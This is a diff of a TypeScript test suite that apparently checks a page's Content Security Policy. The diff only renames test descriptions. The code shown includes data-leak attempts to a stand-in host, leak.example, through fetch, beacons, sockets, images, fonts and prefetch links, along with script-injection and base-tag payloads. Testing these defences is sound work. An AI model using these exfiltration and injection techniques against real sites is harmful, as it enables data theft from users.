@@ -7,7 +7,7 @@ const requests: readonly [string, () => unknown][] = [
   ['fetch', () => fetch('https://leak.example/fetch', { mode: 'no-cors' }).catch(() => '')],
   ['a beacon', () => navigator.sendBeacon('https://leak.example/beacon', 'secret')],
   ['a socket', () => new WebSocket('wss://leak.example/socket')],
-  ['a stream of events', () => new EventSource('https://leak.example/events')],
+  ['server-sent events', () => new EventSource('https://leak.example/events')],
   ['a picture', () => (new Image().src = 'https://leak.example/image')],
   [
     'a style sheet',
@@ -18,7 +18,7 @@ const requests: readonly [string, () => unknown][] = [
   ],
   ['a font', () => new FontFace('leak', 'url(https://leak.example/font)').load().catch(() => '')],
   [
-    'a page to be fetched early',
+    'a prefetch hint',
     () =>
       document.head.append(
         Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://leak.example/prefetch' }),
@@ -56,7 +56,7 @@ const forbidden: readonly [string, string, () => unknown][] = [
       ),
   ],
   [
-    'a script of a blob: address',
+    'a script from a blob: address',
     'script-src-elem',
     () =>
       document.head.append(
@@ -65,7 +65,7 @@ const forbidden: readonly [string, string, () => unknown][] = [
         }),
       ),
   ],
-  ['a worker of a blob: address', 'worker-src', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))],
+  ['a worker from a blob: address', 'worker-src', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))],
   [
     'a style in an attribute',
     'style-src-attr',
@@ -83,7 +83,7 @@ const forbidden: readonly [string, string, () => unknown][] = [
     () => document.body.insertAdjacentHTML('beforeend', '<object data="https://leak.example/object"></object>'),
   ],
   [
-    'another base of all addresses',
+    'another base address',
     'base-uri',
     () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://leak.example/' })),
   ],
@@ -103,18 +103,18 @@ const payload =
 
 export const content: readonly Attack[] = [
   ...requests.map(([name, ask]) =>
-    lateAttack(`the page sends something out by ${name}`, async (computer) => {
+    lateAttack(`the page leaks data through ${name}`, async (computer) => {
       await refusedBy(computer.page, ask);
       return tried(computer, 'leak.example');
     }),
   ),
   ...forbidden.map(([name, directive, make]) =>
-    lateAttack(`the page takes in ${name}`, async ({ page }) => {
+    lateAttack(`the page loads ${name}`, async ({ page }) => {
       const refused = await refusedBy(page, make);
       return gain(refused !== directive, `no ${directive} refused it, but “${refused}”`);
     }),
   ),
-  attack('the page runs a text as a script', async ({ page }) => {
+  attack('the page runs a string as a script', async ({ page }) => {
     await page.evaluate(
       () =>
         new Promise<void>((resolve) => {
@@ -131,11 +131,11 @@ export const content: readonly Attack[] = [
     );
     return '';
   }),
-  lateAttack('a frame of the page’s own text runs a script', async ({ page }) => {
+  lateAttack('a srcdoc frame runs a script', async ({ page }) => {
     await withHtml(page, '<iframe srcdoc="<script>parent.pwned = "parent"</script>"></iframe>');
     return '';
   }),
-  attack('a service worker that would stay', async ({ page }) =>
+  attack('a service worker', async ({ page }) =>
     gain(
       await page.evaluate(() =>
         navigator.serviceWorker
@@ -148,7 +148,7 @@ export const content: readonly Attack[] = [
       'it was registered',
     ),
   ),
-  attack('the page takes another domain', async ({ page }) =>
+  attack('the page changes its domain', async ({ page }) =>
     gain(
       await page.evaluate(() => {
         try {
@@ -161,7 +161,7 @@ export const content: readonly Attack[] = [
       'it has another domain',
     ),
   ),
-  attack('without its policy, the page sends something out', async ({ attempts, bare }) => {
+  attack('without its policy, the page leaks data', async ({ attempts, bare }) => {
     const page = await bare();
     const before = (await attempts()).length;
     await page.evaluate(async () => {
@@ -182,7 +182,7 @@ export const content: readonly Attack[] = [
     });
     return '';
   }),
-  attack('a document has a script in every text', async (computer) => {
+  attack('a document with a script in every field', async (computer) => {
     const { call, home, page } = computer;
     const doc = createResume({ title: payload }, '2026-01-01T00:00:00.000Z');
     doc.slug = 'attacked';
